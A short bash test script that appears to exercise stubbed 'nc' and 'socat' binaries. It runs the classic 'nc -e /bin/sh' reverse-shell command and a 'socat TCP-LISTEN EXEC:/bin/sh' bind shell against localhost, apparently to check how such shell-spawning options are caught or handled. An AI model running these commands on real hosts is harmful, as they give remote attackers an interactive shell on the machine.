#!/bin/bash
# The famous option.
. "$(dirname "$0")/../lib.sh"

stub nc
./nc -e /bin/sh 127.0.0.1 9
stub socat
./socat TCP-LISTEN:9 EXEC:/bin/sh
